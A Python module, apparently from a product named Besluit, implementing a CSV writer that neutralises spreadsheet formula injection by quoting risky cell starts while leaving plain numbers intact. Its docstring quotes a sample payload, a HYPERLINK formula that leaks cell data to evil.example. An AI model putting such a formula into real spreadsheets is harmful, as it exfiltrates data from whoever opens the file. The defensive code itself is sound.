"""The one CSV writer of the product: cells that a spreadsheet would run are neutralised.

Spreadsheets (Excel, LibreOffice, Google Sheets) treat a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and also one that starts with a tab or
a carriage return (OWASP, "CSV Injection"). A motion title like
``=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`` or an imported member
name would then run on the machine of whoever opens an export. So every CSV
that Besluit writes goes through ``writer()`` here (a test refuses
``csv.writer`` anywhere else in ``src/``).

The rule (defusedcsv's number rule, plus tab and CR as OWASP lists them): a text cell that starts
with one of those characters gets a single quote in front, which spreadsheets
show as text and do not run. A cell that is a plain number stays as it is, so
``-1.5`` or ``-3`` is still a number: an optional sign, digits and at most one
decimal point, nothing else, cannot be a formula. ``int``, ``Decimal`` and other
non-text values are written as ``str()`` gives them (a negative number keeps its
sign). The JSON exports are not touched: only a spreadsheet runs formulas.
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def neutralise(value: Any) -> Any:
    """The cell as written: text that would start a formula gets a leading ``'``."""
    if value is None or isinstance(value, int | float | Decimal):
        return value  # numbers (and bool, an int) are written as numbers
    text = str(value)  # lazy translations and other objects are written as their text
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Lines:
    """Rows written with ``\r\n`` (so the csv module quotes every cell holding a CR or
    LF), then ended with the terminator the caller asked for. With ``\n`` as the
    terminator the csv module would leave a bare ``\r`` in a cell unquoted, and a
    reader would start a new row there: a name could then add cells of its own."""

    def __init__(self, out: IO[str], terminator: str):
        self.out, self.terminator = out, terminator

    def write(self, line: str) -> Any:
        return self.out.write(line.removesuffix("\r\n") + self.terminator)


class SafeWriter:
    """``csv.writer`` with every cell passed through ``neutralise``."""

    def __init__(self, out: IO[str], *, lineterminator: str = "\r\n", **kwargs: Any):
        target = out if lineterminator == "\r\n" else _Lines(out, lineterminator)
        # The one place csv.writer is used (tests/security/test_csv_injection.py).
        self._writer = csv.writer(target, lineterminator="\r\n", **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
